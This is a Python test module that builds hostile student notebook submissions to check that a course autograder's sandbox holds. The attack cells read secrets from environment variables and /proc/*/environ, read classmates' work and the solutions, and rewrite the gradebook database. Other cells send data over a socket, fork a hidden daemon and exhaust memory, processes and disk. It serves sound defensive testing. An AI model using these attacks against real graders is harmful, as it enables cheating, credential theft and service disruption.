"""Hostile submissions that attack the grader itself (tests/test_sandbox.py asserts each
failed). They are submitted with the class of tests/test_class_grading.py, so that one
`make grade` run grades them next to honest students.

Each attack holds a correct solution plus cells that act only while graded
(``NBGRADER_EXECUTION=autograde``) and print "ATTACK <name>: <what happened>"; "BREACH"
marks a success.
"""

# ruff: noqa: E501 - the attacks are code in strings, one attempt a line

from __future__ import annotations

import atexit
import json
import re
import socket
import threading
from pathlib import Path

import nbformat

from course_tools import ROOT, test_cells
from test_grading import solved_submission

AID = "01_dot_product_attention"
SECRET = "pg-secret-4f1c9e"  # in the grader's environment, as a database password is
TOKEN = "hub-token-77ab03"
OUTLIVE = "outlive-marker-5d21"
OUTLIVE_NAME = "outlive-5d21"  # a forked daemon's name (/proc/PID/comm: 15 characters)
CAPS = {
    "ATTENTION_REF_SANDBOX_MEMORY": "2G",
    "ATTENTION_REF_SANDBOX_PROCESSES": "64",
    "ATTENTION_REF_SANDBOX_DISK": "64M",
}
#: The grader's environment while the class is graded: the caps of the sandbox, and
#: secrets of the kind a grader holds (a database password, a hub token).
GRADER_ENV = {
    **CAPS,
    "PGPASSWORD": SECRET,
    "JUPYTERHUB_API_TOKEN": TOKEN,
    # the seeds of the graded checks (attention_ref/trust/secret.py): the attacks on the
    # environment look for SECRET in it
    "ATTENTION_REF_GRADING_SECRET": f"{SECRET}-grading-0123456789abcdef",
}

# Each attack prints "ATTACK <name>: <what happened>"; "BREACH" marks a success.
ATTACK_PRELUDE = """
import os as _os

def _attack(name, fn):
    if _os.environ.get("NBGRADER_EXECUTION") != "autograde":
        return
    try:
        got = fn()
        print(f"ATTACK {name}: BREACH {str(got)[:300]!r}")
    except BaseException as err:
        print(f"ATTACK {name}: held ({type(err).__name__}: {str(err)[:120]})")
"""


def read_attacks(course: Path, student: str) -> str:
    path = course / "submitted" / student / AID / f"{AID}.ipynb"
    return (
        ATTACK_PRELUDE
        + f"""
import glob, inspect, socket
_attack("read the source notebook", lambda: open({str(course / "solutions" / AID / (AID + ".ipynb"))!r}).read())
_attack("read a classmate", lambda: open({str(path).replace(student, "full")!r}).read())
_attack("list the submissions", lambda: glob.glob({str(course / "submitted")!r} + "/*") or 1 / 0)
_attack("read the environment", lambda: [k for k in _os.environ if {SECRET!r} in _os.environ[k] or {TOKEN!r} in _os.environ[k]] or 1 / 0)
_attack("read the grader's environ", lambda: [p for p in glob.glob("/proc/*/environ") if {SECRET!r}.encode() in open(p, "rb").read()] or 1 / 0)
_attack("read the reference source", lambda: inspect.getsource(__import__("attention_ref").sdpa))
_attack("read the package on disk", lambda: open({str(ROOT / "attention_ref" / "attention.py")!r}).read())
_attack("read a home folder", lambda: _os.listdir(_os.path.expanduser("~root")) or 1 / 0)
"""
    )


def write_attacks(course: Path, port: int) -> str:
    import attention_ref.checks

    checks_dir = Path(attention_ref.checks.__file__).parent
    return (
        ATTACK_PRELUDE
        + f"""
import socket, sqlite3
def _send():
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(b"LEAK"); s.close()
    return "sent"
_attack("network", _send)
_attack("write the course root", lambda: open({str(course / "pwned.txt")!r}, "w").write("x"))
_attack("write the installed package", lambda: open({str(checks_dir / "pwned.py")!r}, "w").write("x"))
_attack("write the package it imports", lambda: open(_os.path.join(_os.path.dirname(__import__("attention_ref.checks").checks.__file__), "pwned.py"), "w").write("x"))
def _gradebook():
    db = sqlite3.connect({str(course / "gradebook.db")!r})
    db.execute("update grade set auto_score = 0")
    db.commit()
    return "rewritten"
_attack("rewrite the gradebook", _gradebook)
"""
    )


OUTLIVE_ATTACK = (
    ATTACK_PRELUDE
    + f"""
import subprocess, sys, time
def _outlive():
    started = []
    try:  # a program: refused in a kernel grading notebook 01 (trust/no_exec.py)
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {OUTLIVE!r}],
                         start_new_session=True)
        started.append("a program")
    except PermissionError:
        pass
    if _os.fork() == 0:  # a daemon, twice forked: the kernel itself, named to be found
        _os.setsid()
        if _os.fork() == 0:
            import ctypes
            ctypes.CDLL(None).prctl(15, {OUTLIVE_NAME.encode()!r}, 0, 0, 0)  # PR_SET_NAME
            time.sleep(600)
            _os._exit(0)
        _os._exit(0)
    started.append("a forked daemon")
    return "started " + " and ".join(started) + " (held if they are gone after grading)"
_attack("outlive the notebook", _outlive)
"""
)

# The resource attacks do not catch what stops them: the cell fails, as a real one would.
GRADED_ONLY = 'import os\nif os.environ.get("NBGRADER_EXECUTION") == "autograde":\n'
MEMORY_ATTACK = (
    GRADED_ONLY
    + """\
    import numpy as np

    print("ATTACK memory: 6 GiB", np.ones(6 * 2**30, dtype=np.uint8).sum())
"""
)
PROCESS_ATTACK = (
    GRADED_ONLY
    + """\
    import time

    kids = []
    for _ in range(400):  # bounded: 400 sleepers, were the cap to fail
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        kids.append(pid)
    print(f"ATTACK processes: {len(kids)} started")
"""
)
DISK_ATTACK = (
    GRADED_ONLY
    + """\
    with open("/tmp/fill", "wb") as f:
        for _ in range(256):  # 256 MiB, four times the test's cap
            f.write(b"x" * 2**20)
    print("ATTACK disk: 256 MiB written")
"""
)


def with_cells(*sources: str):
    """The solved notebook with ``sources`` as extra cells after its first test cell."""
    nb = solved_submission(AID)
    i = nb.cells.index(test_cells(nb)[0])
    for k, src in enumerate(sources):
        nb.cells.insert(i + 1 + k, nbformat.v4.new_code_cell(src))
    return nb


def outputs(course: Path, student: str) -> str:
    """Everything the graded notebook of ``student`` printed."""
    nb = nbformat.read(course / "autograded" / student / AID / f"{AID}.ipynb", as_version=4)
    return json.dumps([c.get("outputs", []) for c in nb.cells])


def attack_lines(course: Path, student: str) -> dict[str, str]:
    nb = nbformat.read(course / "autograded" / student / AID / f"{AID}.ipynb", as_version=4)
    lines = {}
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            for m in re.finditer(r"ATTACK (.+?): (.*)", out.get("text", "")):
                lines[m.group(1)] = m.group(2)
    return lines


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100) or b"(connected)")
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


def outliving_processes() -> list[str]:
    found = []
    for p in Path("/proc").glob("[0-9]*"):
        try:
            cmdline, name = (p / "cmdline").read_bytes(), (p / "comm").read_text().strip()
        except OSError:
            continue
        if OUTLIVE.encode() in cmdline or name == OUTLIVE_NAME:
            found.append(p.name)
    return found


_LISTENER: list[Listener] = []


def listener() -> Listener:
    """The session's listener on 127.0.0.1 (the network attacks aim at it)."""
    if not _LISTENER:
        _LISTENER.append(Listener())
        atexit.register(_LISTENER[0].close)
    return _LISTENER[0]


#: The attackers and what each holds besides a full solution.
ATTACKERS = ("hostile-read", "hostile-write", "hostile-outlive", "hostile-caps")


def attackers(course: Path) -> dict[str, nbformat.NotebookNode]:
    """The hostile submissions of notebook 01 for a class graded in ``course``."""
    return {
        "hostile-read": with_cells(read_attacks(course, "hostile-read")),
        "hostile-write": with_cells(write_attacks(course, listener().port)),
        "hostile-outlive": with_cells(OUTLIVE_ATTACK),
        "hostile-caps": with_cells(MEMORY_ATTACK, PROCESS_ATTACK, DISK_ATTACK),
    }
